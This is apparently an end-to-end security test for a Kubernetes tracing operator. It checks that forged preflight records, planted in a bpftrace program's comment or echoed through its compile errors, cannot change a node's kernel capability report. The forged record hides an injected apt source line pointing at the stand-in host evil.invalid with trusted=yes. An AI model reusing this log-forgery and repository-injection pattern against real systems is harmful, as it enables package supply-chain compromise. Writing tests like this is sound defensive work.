// A tenant allowed custom programs tries to forge the agent's control messages:
// a bpftrace program whose text (a block comment) and whose compile error output
// (bpftrace echoes the offending source line on stderr) both hold a preflight
// record claiming kernel 6.1.0-forged and an apt source line in the codename. Both
// reach the agent's pod log. The node's shared capability report
// (tracejob-node-<node>, operator namespace) must keep the node's real kernel.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { clusterReachable, getJson, k, kubectl, sleep, waitForAsync } from '../lib/kube.js';
import { OPERATOR_NS, PRIVILEGED_NS, agentPodsOf, condition, createTraceJob, installCrdsAndOperator, waitForPhase } from '../lib/tracejob.js';

const reachable = clusterReachable();

/** A preflight record as the old decoder took it; custom programs refuse "}}", JSON does not mind "} }". */
const FORGED = JSON.stringify({
  tracejob: 'preflight',
  at: '2026-01-01T00:00:00.000Z',
  caps: { kernel: '6.1.0-forged', btf: true, host: { modules: true, stap: true, os: { id: 'debian', idLike: [], versionId: '13', codename: 'trixie main\ndeb [trusted=yes] http://evil.invalid/ x' } } },
}).replace(/\}\}/g, '} }').replace(/\}\}/g, '} }');

interface Report {
  kernel: string;
  reportedAt: string;
  osRelease?: { codename?: string };
}

function readReport(name: string): Report | undefined {
  const r = kubectl(['-n', OPERATOR_NS, 'get', 'configmap', name, '-o', 'json']);
  if (r.code !== 0) return undefined;
  const cm = JSON.parse(r.stdout) as { data?: Record<string, string> };
  return JSON.parse(cm.data?.['report.json'] ?? '{}') as Report;
}

/** The agent pod's log while it exists (node jobs are deleted once collected). */
async function agentLogWhileRunning(uid: string): Promise<string> {
  let log = '';
  await waitForAsync('the agent pod log to show the program', 60_000, () => {
    const pod = agentPodsOf(uid)[0];
    if (!pod) return false;
    const r = kubectl(['-n', OPERATOR_NS, 'logs', pod, '-c', 'agent']);
    if (r.code === 0 && r.stdout.includes('6.1.0-forged')) log = r.stdout;
    return log !== '';
  });
  return log;
}

describe('forged agent messages', { skip: !reachable && 'local cluster not running' }, () => {
  let node = '';
  let kernel = '';
  const cmName = () => `tracejob-node-${node}`;

  before(async () => {
    installCrdsAndOperator();
    // The e2e install allows custom programs and node targets for this namespace only.
    await waitForAsync(`${PRIVILEGED_NS} not terminating`, 90_000, () => kubectl(['get', 'namespace', PRIVILEGED_NS, '-o', 'jsonpath={.status.phase}']).stdout !== 'Terminating');
    if (kubectl(['get', 'namespace', PRIVILEGED_NS]).code !== 0) k(['create', 'namespace', PRIVILEGED_NS]);
    const nodes = getJson<{ items: Array<{ metadata: { name: string }; status: { nodeInfo: { kernelVersion: string } } }> }>(['get', 'nodes']);
    const first = nodes.items[0];
    assert.ok(first, 'a node');
    node = first.metadata.name;
    kernel = first.status.nodeInfo.kernelVersion;
    assert.notEqual(kernel, '6.1.0-forged');
  });
  after(() => {
    kubectl(['-n', PRIVILEGED_NS, 'delete', 'tracejob', 'forged-comment', 'forged-stderr', '--ignore-not-found', '--wait=false']);
    kubectl(['delete', 'namespace', PRIVILEGED_NS, '--wait=false', '--ignore-not-found']);
  });

  test('a program comment holding a preflight record does not change the node capability report', async () => {
    // Block comment lines start with "{" in the program text; one copy indented, one with a made-up MAC.
    const program = `/*\n${FORGED}\n    ${FORGED}\n${FORGED.slice(0, -1)},"mac":"${'a'.repeat(64)}"}\n*/\ninterval:ms:500 { @ticks = count(); }\n`;
    const t0 = Date.now();
    const tj = createTraceJob(PRIVILEGED_NS, 'forged-comment', { target: { node: { name: node } }, probe: { type: 'bpftrace', program }, duration: '8s' });
    // The forged text does reach the channel the operator reads (the agent echoes the program).
    const log = await agentLogWhileRunning(tj.metadata.uid);
    const done = await waitForPhase(PRIVILEGED_NS, 'forged-comment', ['Succeeded', 'Failed'], 90_000);
    assert.equal(done.status?.phase, 'Succeeded', done.status?.message);
    const report = readReport(cmName());
    assert.ok(report, `no ${cmName()} after a run on the node`);
    assert.equal(report.kernel, kernel, `the report says ${report.kernel}`);
    assert.doesNotMatch(JSON.stringify(report), /forged|evil/);
    // Written by this run from the agent's own record, not left over from before.
    assert.ok(Date.parse(report.reportedAt) >= t0 - 2000, `report from ${report.reportedAt}, run started ${new Date(t0).toISOString()}`);
    // Framed: every line of the echo carries the agent's prefix; none starts with "{".
    const lines = log.split('\n');
    assert.ok(lines.some((l) => l.startsWith('tracejob-agent: | {"tracejob":"preflight"') && l.includes('6.1.0-forged')), log.slice(0, 4000));
    assert.ok(!lines.some((l) => l.trimStart().startsWith('{') && l.includes('6.1.0-forged')), 'a forged record starts a log line');
  });

  test("bpftrace's compile error echoing a forged record on stderr does not change it either", async () => {
    // bpftrace prints the offending source line under its error: here, the record itself.
    const program = `interval:ms:500 { @ticks = count(); }\n${FORGED}\n`;
    const t0 = Date.now();
    const tj = createTraceJob(PRIVILEGED_NS, 'forged-stderr', { target: { node: { name: node } }, probe: { type: 'bpftrace', program }, duration: '8s' });
    const done = await waitForPhase(PRIVILEGED_NS, 'forged-stderr', ['Succeeded', 'Failed'], 90_000);
    assert.equal(done.status?.phase, 'Failed');
    assert.equal(condition(done, 'Failed')?.reason, 'CompileError', done.status?.message);
    assert.match(done.status?.message ?? '', /syntax error/);
    // The report write happens while collecting; give a slow API server a moment.
    await sleep(1000);
    const report = readReport(cmName());
    assert.ok(report);
    assert.equal(report.kernel, kernel, `the report says ${report.kernel}`);
    assert.doesNotMatch(JSON.stringify(report), /forged|evil/);
    assert.ok(Date.parse(report.reportedAt) >= t0 - 2000, 'refreshed by this run');
    await waitForAsync('the agent pod removed', 30_000, () => agentPodsOf(tj.metadata.uid).length === 0);
  });
});
